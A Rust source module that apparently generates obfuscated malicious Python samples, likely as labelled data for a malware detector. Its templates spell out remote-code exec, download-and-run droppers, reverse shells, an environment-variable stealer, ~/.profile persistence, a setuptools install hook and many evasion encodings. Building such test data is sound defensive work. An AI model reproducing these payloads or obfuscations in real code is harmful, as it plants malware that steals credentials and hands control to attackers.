//! Python: packages with a catch, stealers and reverse shells.

use super::super::{
    Dice, Truth, base64, codes, each, hex, keyed, put, reversed, rot13, xored, zlib,
};
use super::{listed, padded, parted, table};

/// An expression whose value is `text`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (one, two) = (dice.name(), dice.name());
    match dice.below(14) {
        0 => format!("(0x{}).to_bytes({}, 'big').decode()", hex(text.as_bytes()), text.len()),
        1 => {
            let (from, _) = table(dice, text, "abcdefghijklmnopqrstuvwxyz");
            let into = dice.shuffled(&from);
            let coded: String =
                text.chars().filter_map(|it| into.chars().nth(from.find(it)?)).collect();
            format!("'{coded}'.translate(str.maketrans('{into}', '{from}'))")
        }
        2 => {
            before.push_str("import binascii\n");
            format!(
                "binascii.unhexlify('{}'[::-1]).decode('utf-8')",
                reversed(&hex(text.as_bytes()))
            )
        }
        3 => {
            let form = "%c".repeat(text.len());
            format!("'{form}' % ({},)", codes(text.bytes(), ", "))
        }
        4 => {
            before.push_str("import struct\n");
            let numbers: Vec<String> = text
                .as_bytes()
                .chunks(2)
                .map(|it| {
                    (u32::from(it[0]) | it.get(1).map_or(0, |it| u32::from(*it)) << 8).to_string()
                })
                .collect();
            format!(
                "struct.pack('<{}H', {}).rstrip(b'\\x00').decode()",
                numbers.len(),
                numbers.join(", ")
            )
        }
        5 => format!("'{}'[::3]", padded(dice, text, 2)),
        6 => {
            let (letters, places) = table(dice, text, "");
            before.push_str(&format!("{one} = '{letters}'\n"));
            format!("''.join([{one}[{two}] for {two} in ({},)])", listed(places, ", "))
        }
        7 => {
            before.push_str("from functools import reduce\n");
            let add = dice.below(50);
            let numbers =
                listed(text.bytes().enumerate().map(|(at, it)| usize::from(it) + at + add), ", ");
            format!("reduce(lambda a, b: a + chr(b[1] - b[0] - {add}), enumerate([{numbers}]), '')")
        }
        8 => {
            let key = dice.name();
            before.push_str(&put(
                "def @ONE@(data, key):\n    out = bytearray()\n    for i in range(len(data)):\n        out.append(data[i] ^ ord(key[i % len(key)]))\n    return out.decode()\n\n",
                &[("ONE", &one)],
            ));
            format!("{one}(bytes.fromhex('{}'), '{key}')", hex(&keyed(text, &key)))
        }
        9 => {
            before.push_str("import codecs\n");
            format!(
                "codecs.decode(codecs.decode('{}', 'hex').decode(), 'rot_13')",
                hex(rot13(text).as_bytes())
            )
        }
        10 => {
            before.push_str("from urllib.parse import unquote\n");
            format!("unquote('{}')", each(text, "", |it| format!("%{it:02X}")))
        }
        11 => {
            // A class that keeps its words to itself.
            let key = dice.key();
            before.push_str(&put(
                "class @ONE@:\n    _k = @K@\n    def __init__(self, v):\n        self.v = v\n    def __str__(self):\n        return ''.join(map(lambda c: chr(c ^ self._k), self.v))\n\n",
                &[("ONE", &one), ("K", &key.to_string())],
            ));
            format!("str({one}([{}]))", codes(xored(text, key), ", "))
        }
        12 => format!(
            "__import__('zlib').decompress(__import__('base64').b64decode('{}')).decode()",
            base64(&zlib(text.as_bytes()))
        ),
        _ => {
            // Pieces under numbers, put in their order.
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let entries: Vec<String> =
                order.iter().map(|at| format!("{}: '{}'", at * 7 + 3, pieces[*at])).collect();
            before.push_str(&format!("{one} = {{{}}}\n", entries.join(", ")));
            format!("''.join({one}[{two}] for {two} in sorted({one}))")
        }
    }
}

fn noise(dice: &mut Dice) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => format!("{name} = {}\n", dice.below(9999)),
        1 => "import time\ntime.sleep(1)\n".to_owned(),
        2 => format!("def {name}(x):\n    return x * {}\n\n", 2 + dice.below(9)),
        3 => "import platform\nif platform.system() == 'Windows':\n    pass\n".to_owned(),
        4 => format!("# {name}\n"),
        5 => format!("{name} = ['{}', '{}']\n", dice.name(), dice.name()),
        _ => format!(
            "try:\n    {name} = open('/etc/hostname').read()\nexcept Exception:\n    {name} = ''\n"
        ),
    }
}

fn contact(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let (name, file) = (dice.name(), dice.name());
    let body = match dice.below(12) {
        0 => {
            let url = truth.url(dice, &[".txt", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "import requests\n{name} = requests.get({url}, headers={{'User-Agent': 'Mozilla/5.0'}}, timeout=10)\nif {name}.status_code == 200:\n    exec({name}.text)\n"
            )
        }
        1 => {
            let url = truth.url(dice, &[".exe"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "import os, tempfile, subprocess\nfrom urllib import request\n{name} = os.path.join(tempfile.gettempdir(), '{file}.exe')\nrequest.urlretrieve({url}, {name})\nsubprocess.Popen([{name}], creationflags=0x08000000)\n"
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "import socket, os, pty\n{name} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n{name}.connect(({host}, {port}))\n[os.dup2({name}.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/sh')\n"
            )
        }
        3 => {
            // The parts of a URL, each where it is asked for.
            let url = dice.url(&[".json", ""]);
            truth.urls.insert(url.clone());
            let (base, path) = parted(&url);
            let (scheme, host) = base.split_once("://").unwrap_or_default();
            let kind = if scheme == "https" { "HTTPSConnection" } else { "HTTPConnection" };
            let host = hide(dice, host, &mut before);
            format!(
                "import http.client\n{name} = http.client.{kind}({host}, timeout=15)\n{name}.request('GET', '{path}')\n{file} = {name}.getresponse().read()\neval(compile({file}, '<s>', 'exec'))\n"
            )
        }
        4 => {
            let url = truth.url(dice, &[".ps1", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "import subprocess\n{name} = {url}\nsubprocess.run(['powershell', '-WindowStyle', 'Hidden', '-Command', f\"iwr -UseBasicParsing '{{{name}}}' | iex\"], shell=False)\n"
            )
        }
        5 => {
            let url = truth.url(dice, &[".sh", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "import os\nos.system('curl -s %s -o /tmp/{file} && chmod +x /tmp/{file} && /tmp/{file} &' % ({url}))\n"
            )
        }
        6 => {
            // What was stolen is sent away.
            let url = truth.url(dice, &["", ".php"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "import os, json, getpass, socket\nimport urllib.request\n{name} = {{'u': getpass.getuser(), 'h': socket.gethostname(), 'e': dict(os.environ)}}\n{file} = urllib.request.Request({url}, data=json.dumps({name}).encode(), headers={{'Content-Type': 'application/json'}}, method='POST')\ntry:\n    urllib.request.urlopen({file})\nexcept OSError:\n    pass\n"
            )
        }
        7 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "import socket, struct\n{name} = socket.create_connection(({host}, {port}))\n{file} = struct.unpack('>I', {name}.recv(4))[0]\nbuf = b''\nwhile len(buf) < {file}:\n    buf += {name}.recv({file} - len(buf))\nexec(buf, {{'s': {name}}})\n"
            )
        }
        8 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "import asyncio, subprocess\n\nasync def {name}():\n    r, w = await asyncio.open_connection({host}, {port})\n    while not r.at_eof():\n        c = await r.readline()\n        w.write(subprocess.getoutput(c.decode()).encode())\n        await w.drain()\n\nasyncio.run({name}())\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".py", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "import os\n{name} = {url}\nwith open(os.path.expanduser('~/.profile'), 'a') as {file}:\n    {file}.write('\\nwget -q -O- ' + {name} + ' | python3 - &\\n')\n"
            )
        }
        10 => {
            // The first place that answers.
            let urls = [truth.url(dice, &[".dll", ""]), truth.url(dice, &[".bin", ""])];
            let one = hide(dice, &urls[0], &mut before);
            let two = hide(dice, &urls[1], &mut before);
            format!(
                "import urllib.request, ctypes\n{name} = [{one}, {two}]\nfor {file} in {name}:\n    try:\n        code = urllib.request.urlopen({file}).read()\n    except Exception:\n        continue\n    open('/tmp/lib.so', 'wb').write(code)\n    ctypes.CDLL('/tmp/lib.so')\n"
            )
        }
        _ => {
            let url = truth.url(dice, &[".zip", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "import threading, io, zipfile\n\ndef {name}(where):\n    import urllib.request as u\n    z = zipfile.ZipFile(io.BytesIO(u.urlopen(u.Request(where)).read()))\n    z.extractall('/tmp/{file}')\n\nthreading.Thread(target={name}, args=({url},)).start()\n"
            )
        }
    };
    before + &body
}

fn indented(script: &str, by: &str) -> String {
    script
        .lines()
        .map(|line| if line.is_empty() { "\n".to_owned() } else { format!("{by}{line}\n") })
        .collect()
}

fn wrap(dice: &mut Dice, script: &str) -> String {
    let name = dice.name();
    match dice.below(8) {
        0 => format!(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))\n",
            reversed(&base64(&zlib(script.as_bytes())))
        ),
        1 => {
            // Four parts, two of them turned.
            let coded = base64(script.as_bytes());
            let part = coded.len().div_ceil(4);
            let parts = super::lines(&coded, part);
            let part = |at: usize| parts.get(at).cloned().unwrap_or_default();
            format!(
                "import base64, codecs\nmagic = '{}'\nlove = '{}'\ngod = '{}'\ndestiny = '{}'\njoy = '\\x72\\x6f\\x74\\x31\\x33'\ntrust = eval('\\x6d\\x61\\x67\\x69\\x63') + eval('\\x63\\x6f\\x64\\x65\\x63\\x73\\x2e\\x64\\x65\\x63\\x6f\\x64\\x65\\x28\\x6c\\x6f\\x76\\x65\\x2c\\x20\\x6a\\x6f\\x79\\x29') + eval('\\x67\\x6f\\x64') + eval('codecs.decode(destiny, joy)')\neval(compile(base64.b64decode(eval('\\x74\\x72\\x75\\x73\\x74')),'<string>','exec'))\n",
                part(0),
                rot13(&part(1)),
                part(2),
                rot13(&part(3))
            )
        }
        2 => format!(
            "from setuptools import setup\nfrom setuptools.command.install import install\n\nclass {name}(install):\n    def run(self):\n        install.run(self)\n{}\nsetup(name='{}', version='1.0.{}', cmdclass={{'install': {name}}}, packages=[])\n",
            indented(script, "        "),
            dice.name(),
            dice.below(9)
        ),
        3 => {
            let key = dice.key();
            let numbers = codes(script.bytes().map(|it| it ^ key), ",");
            format!("{name} = [{numbers}]\nexec(''.join(chr(i ^ {key}) for i in {name}))\n")
        }
        4 => format!(
            "import sys, subprocess, base64\n{name} = '{}'\nsubprocess.Popen([sys.executable, '-c', base64.b64decode({name}).decode()])\n",
            base64(script.as_bytes())
        ),
        5 => {
            format!("exec(bytes.fromhex('{}').decode('utf8'), globals())\n", hex(script.as_bytes()))
        }
        _ => script.to_owned(),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = String::new();
    for _ in 0..1 + dice.below(2) {
        for _ in 0..dice.below(3) {
            script.push_str(&noise(dice));
        }
        script.push_str(&contact(dice, truth));
    }
    wrap(dice, &script)
}
